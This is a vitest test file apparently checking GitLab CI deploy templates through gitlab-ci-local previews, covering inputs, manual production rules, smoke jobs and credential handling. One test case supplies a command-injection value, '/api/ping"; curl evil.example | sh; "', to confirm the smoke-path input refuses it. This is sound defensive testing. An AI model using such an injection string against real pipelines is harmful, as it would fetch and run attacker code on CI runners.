import { execFile } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify, stripVTControlCharacters } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, parseAllDocuments } from 'yaml';
import { childPipeline } from '../ci/child-pipeline.ts';
import { options } from './settings.ts';

/**
 * The deploy fragments, checked without GitLab: gitlab-ci-local includes each one with its inputs as the
 * child pipeline does, interpolates them, validates the result against GitLab's JSON schema and prints it;
 * the jobs it prints are then checked for what every deploy needs. Cloud Run and App Engine cannot be
 * reached from here: their commands are checked here and in gcloud/scripts.test.ts.
 */
const run = promisify(execFile);
const root = fileURLToPath(new URL('../../', import.meta.url));
const gitlabCiLocal = join(dirname(createRequire(import.meta.url).resolve('gitlab-ci-local/package.json')), 'dist/index.js');
const targets = ['droplet', 'ansible', 'cloud-run', 'app-engine'] as const;
const fragment = (name: string) => `templates/ci/${name}.yml`;
/** What the child pipeline passes each deploy fragment from the service's metadata.service.smoke. */
const smokePath = (project: string) => `/api/${project}/8?check=smoke`;

interface Job {
  stage: string;
  image: { name: string };
  needs: ({ job: string } | { pipeline: string; job: string })[];
  rules: { if: string; when?: string; allow_failure?: boolean }[];
  environment?: { name: string; url: string };
  resource_group?: string;
  id_tokens?: Record<string, { aud: string }>;
  variables?: Record<string, string>;
  before_script?: string[];
  script: string[];
  artifacts?: { when?: string; reports: { dotenv: string } };
}

const sandboxes: string[] = [];
let jobs: Record<string, Job>;

/**
 * `gitlab-ci-local --preview` of a pipeline in a git repository of its own holding the fragments, as the child
 * pipeline includes them: the expanded jobs on stdout, or GitLab's refusal.
 */
async function preview(pipeline: object): Promise<{ ok: boolean; output: string }> {
  const sandbox = mkdtempSync(join(tmpdir(), 'deploy-fragments-'));
  sandboxes.push(sandbox);
  cpSync(join(root, 'templates/ci'), join(sandbox, 'templates/ci'), { recursive: true });
  writeFileSync(join(sandbox, '.gitlab-ci.yml'), JSON.stringify(pipeline));
  const git = (...args: string[]) => run('git', ['-c', 'user.name=Fragments Test', '-c', 'user.email=fragments@example.com', ...args], { cwd: sandbox });
  await git('init', '--quiet', '--initial-branch=main');
  await git('add', '--all');
  await git('commit', '--quiet', '--message', 'fragments');
  await git('remote', 'add', 'origin', 'https://gitlab.example.com/acme/fastify-services.git');
  await git('update-ref', 'refs/remotes/origin/main', 'HEAD');
  await git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/main');
  try {
    const { stdout, stderr } = await run(process.execPath, [gitlabCiLocal, '--preview', '--json-schema-validation'], { cwd: sandbox });
    return { ok: true, output: stderr + stdout };
  } catch (error) {
    // Its refusal is in color when the suite runs under Nx (FORCE_COLOR).
    const { stdout = '', stderr = '' } = error as { stdout?: string; stderr?: string };
    return { ok: false, output: stripVTControlCharacters(stderr + stdout) };
  }
}

/** The pull credentials the child pipeline gives a target whose host pulls the image (here: from the GitLab registry). */
const pullCredentials = (target: string): Record<string, string> =>
  ['droplet', 'ansible'].includes(target) ? { 'registry-user': '$CI_REGISTRY_USER', 'registry-password': '$CI_REGISTRY_PASSWORD' } : {};

/** Every deploy fragment included once, with the inputs the child pipeline gives it. */
const deployPipeline = (inputs: (project: string) => Record<string, string>) => ({
  stages: ['release', 'deploy', 'smoke'],
  ...Object.fromEntries(targets.map((target) => [`app-${target}:release`, { stage: 'release', script: ['echo released'] }])),
  include: targets.map((target) => ({ local: fragment(`deploy-${target}`), inputs: { ...pullCredentials(target), ...inputs(`app-${target}`) } })),
});

beforeAll(async () => {
  const { ok, output } = await preview(deployPipeline((project) => ({ project, 'smoke-path': smokePath(project) })));
  expect(output, output).toContain('json schema validated');
  expect(ok).toBe(true);
  jobs = parse(output.slice(output.indexOf('---'))) as Record<string, Job>;
}, 60_000);

afterAll(() => {
  for (const sandbox of sandboxes) rmSync(sandbox, { recursive: true, force: true });
});

describe('the smoke-path input', () => {
  it.each([
    [{}, '`smoke-path` input: required value has not been provided'],
    [{ 'smoke-path': '/api/ping"; curl evil.example | sh; "' }, '`smoke-path` input: `/api/ping"; curl evil.example | sh; "` does not match required regex'],
    [{ 'smoke-path': 'api/ping' }, '`smoke-path` input: `api/ping` does not match required regex'],
  ])('is required, and a path no shell would read: %j is refused', async (smoke, message) => {
    const { ok, output } = await preview(deployPipeline((project) => ({ project, ...smoke })));
    expect(output).toContain(message);
    expect(ok).toBe(false);
  }, 60_000);
});

describe.each(targets)('templates/ci/deploy-%s.yml', (target) => {
  const project = `app-${target}`;
  const deploy = () => jobs[`${project}:deploy:production`] ?? expect.fail(`no job ${project}:deploy:production in ${Object.keys(jobs).join(', ')}`);
  const smoke = () => jobs[`${project}:smoke:production`] ?? expect.fail(`no job ${project}:smoke:production`);
  const [header, body] = parseAllDocuments(readFileSync(join(root, fragment(`deploy-${target}`)), 'utf8')).map((document) => document.toJS() as unknown);
  const text = readFileSync(join(root, fragment(`deploy-${target}`)), 'utf8');

  it('declares its inputs, each used in its jobs, and uses no other', () => {
    const declared = Object.keys((header as { spec: { inputs: Record<string, unknown> } }).spec.inputs);
    const used = new Set([...JSON.stringify(body).matchAll(/\$\[\[ inputs\.([a-z-]+) \]\]/g)].map((match) => match[1]));
    expect(declared.toSorted()).toEqual([...used].toSorted());
    expect(declared).toEqual(expect.arrayContaining(['project', 'smoke-path', 'image', 'environment', 'when', 'deploy-stage', 'smoke-stage', 'node-image']));
  });

  it('deploys after the release into a GitLab environment with a URL, one deploy of it at a time', () => {
    expect(deploy()).toMatchObject({
      stage: 'deploy',
      environment: { name: `production/${project}`, url: '$DEPLOY_URL' },
      resource_group: `${project}-production`,
      artifacts: { reports: { dotenv: 'deploy.env' } },
    });
    expect(deploy().needs.map((need) => need.job)).toContain(`${project}:release`);
  });

  it('deploys production only when someone presses the button, on the default branch or a tag', () => {
    expect(deploy().rules).toEqual([{ if: '$CI_COMMIT_TAG || $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH', when: 'manual', allow_failure: true }]);
  });

  it("is followed by a smoke test of the service's recorded smoke path on the deployed URL", () => {
    expect(smoke()).toMatchObject({
      stage: 'smoke',
      needs: [{ job: `${project}:deploy:production` }],
      script: [`node tools/deploy/smoke.ts "$DEPLOY_URL" --path "${smokePath(project)}"`],
    });
  });

  it('keeps secrets in CI/CD variables: no credential is written into the fragment', () => {
    expect(text).not.toMatch(/StrictHostKeyChecking=no|HOST_KEY_CHECKING:\s*["']?false|-p \$|--password[ =]\$/i);
    for (const value of Object.values(deploy().variables ?? {})) expect(value).toMatch(/^\$[A-Z_]+$|^true$/);
  });
});

describe.each(['droplet', 'ansible'] as const)('the %s deploy command', (target) => {
  const script = () => (jobs[`app-${target}:deploy:production`]?.script ?? []).join(' ');

  it("runs tools/deploy/cli.ts, bundled by the parent pipeline's build job, with options it knows", () => {
    expect(jobs[`app-${target}:deploy:production`]?.needs).toContainEqual(expect.objectContaining({ pipeline: '$PARENT_PIPELINE_ID', job: 'build' }));
    expect(script()).toContain(`node dist/tools/deploy.mjs ${target} deploy --project app-${target} --image "$RELEASED_IMAGE"`);
    const flags = [...script().matchAll(/ --([a-z-]+)/g)].map((match) => match[1] ?? '');
    expect(flags.filter((flag) => !(flag in options))).toEqual([]);
    expect(flags).toEqual(expect.arrayContaining(['host', 'dotenv', 'env-file']));
  });
});

describe.each([
  ['cloud-run', 'cloud-run.sh'],
  ['app-engine', 'app-engine.sh'],
] as const)('the %s deploy job', (target, script) => {
  const deploy = () => jobs[`app-${target}:deploy:production`] ?? expect.fail('missing');

  it('runs in the Google Cloud CLI image with an OIDC token for workload identity federation', () => {
    expect(deploy().image.name).toMatch(/google-cloud-cli|cloud-sdk/);
    expect(deploy().id_tokens).toEqual({ GCP_ID_TOKEN: { aud: 'https://iam.googleapis.com/$GCP_WORKLOAD_IDENTITY_PROVIDER' } });
  });

  it('logs in, then deploys with the scripts tested in gcloud/scripts.test.ts', () => {
    expect(deploy().script).toEqual(['sh tools/deploy/gcloud/login.sh', `sh tools/deploy/gcloud/${script} app-${target}`]);
    expect(existsSync(join(root, 'tools/deploy/gcloud', script))).toBe(true);
    expect(deploy().variables).toMatchObject({ IMAGE: '$RELEASED_IMAGE', GCP_PROJECT: '$GCP_PROJECT_ID' });
  });
});

describe('the child pipeline, expanded', () => {
  let child: Record<string, Job>;

  beforeAll(async () => {
    const services = [
      { project: 'fibonacci', root: 'apps/fibonacci', deploy: 'ansible', registry: 'dockerhub', smokePath: '/api/fibonacci/8' },
      { project: 'weather', root: 'apps/weather', deploy: 'droplet', registry: 'gitlab', smokePath: '/api/weather' },
    ] as const;
    const { ok, output } = await preview(childPipeline(services, (path) => existsSync(join(root, path))));
    expect(output, output).toContain('json schema validated');
    expect(ok).toBe(true);
    child = parse(output.slice(output.indexOf('---'))) as Record<string, Job>;
  }, 60_000);

  it.each([
    ['fibonacci', 'Docker Hub', { REGISTRY_USER: '$DOCKER_HUB_USER', REGISTRY_PASSWORD: '$DOCKER_HUB_TOKEN' }],
    ['weather', "the project's GitLab registry", { REGISTRY_USER: '$CI_REGISTRY_USER', REGISTRY_PASSWORD: '$CI_REGISTRY_PASSWORD' }],
  ])("has %s's host pull from %s with that registry's credentials, never another's", (project, _, credentials) => {
    expect(child[`${project}:deploy:production`]?.variables).toMatchObject(credentials);
  });
});
